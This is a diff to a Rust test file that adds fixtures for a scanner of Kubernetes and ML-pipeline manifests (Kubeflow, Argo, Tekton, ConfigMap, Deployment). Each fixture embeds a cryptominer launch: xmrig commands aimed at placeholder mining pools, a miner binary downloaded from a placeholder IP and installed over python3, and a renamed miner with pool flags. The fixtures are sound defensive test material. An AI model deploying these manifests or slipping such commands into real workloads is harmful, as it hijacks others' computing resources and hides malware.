@@ -385,6 +385,100 @@ spec:
             "JS-MIN-001",
             "spec.trainer.command[2]",
         ),
+        (
+            "KFP v2 task parameter constant",
+            r#"
+pipelineInfo: {name: param-pipeline}
+deploymentSpec:
+  executors:
+    exec-run:
+      container:
+        image: python:3.11
+        command: [sh, -c, "{{$.inputs.parameters['cmd']}}"]
+root:
+  dag:
+    tasks:
+      run:
+        inputs:
+          parameters:
+            cmd: {runtimeValue: {constant: "./xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level 1"}}
+"#
+            .into(),
+            "JS-MIN-001",
+            "root.dag.tasks.run.inputs.parameters.cmd.runtimeValue.constant",
+        ),
+        (
+            "Argo artifact downloaded onto the PATH",
+            r#"
+apiVersion: argoproj.io/v1alpha1
+kind: Workflow
+metadata: {name: fetch, namespace: team}
+spec:
+  entrypoint: run
+  templates:
+  - name: run
+    inputs:
+      artifacts:
+      - {name: bin, path: /usr/local/bin/python3, mode: 0755, http: {url: "http://203.0.113.9/xmrig"}}
+    container: {image: "python:3.11", command: [python3, --version]}
+"#
+            .into(),
+            "JS-MIN-001",
+            "spec.templates[0].inputs.artifacts[0].http.url",
+        ),
+        (
+            "Tekton parameter default",
+            r#"
+apiVersion: tekton.dev/v1
+kind: Task
+metadata: {name: t, namespace: ci}
+spec:
+  params:
+  - {name: cmd, default: "xmrig -o pool.example.invalid:443 --donate-level 1"}
+  steps:
+  - {name: s, image: alpine, script: $(params.cmd)}
+"#
+            .into(),
+            "JS-MIN-001",
+            "spec.params[0].default",
+        ),
+        (
+            "ConfigMap of a workload applied with -n",
+            r#"
+apiVersion: v1
+kind: ConfigMap
+metadata: {name: worker-env, namespace: team}
+data: {ARGS: "--donate-level 1 -o stratum+tcp://pool.example.invalid:3333"}
+---
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: worker}
+spec:
+  template:
+    spec:
+      containers:
+      - {name: w, image: "registry.example.com/w:1", envFrom: [{configMapRef: {name: worker-env}}]}
+"#
+            .into(),
+            "JS-MIN-001",
+            "spec.template.spec.containers[0].envFrom[0].configMapRef",
+        ),
+        (
+            "renamed miner: pool flags on a pool port",
+            r#"
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: proxy, namespace: team}
+spec:
+  template:
+    spec:
+      containers:
+      - {name: p, image: "python:3.11", command: [python3, -o, "203.0.113.9:3333", -u, rig1, -p, x, -k]}
+"#
+            .into(),
+            "JS-SUS-002",
+            "spec.template.spec.containers[0].command[2]",
+        ),
     ]
 }
 
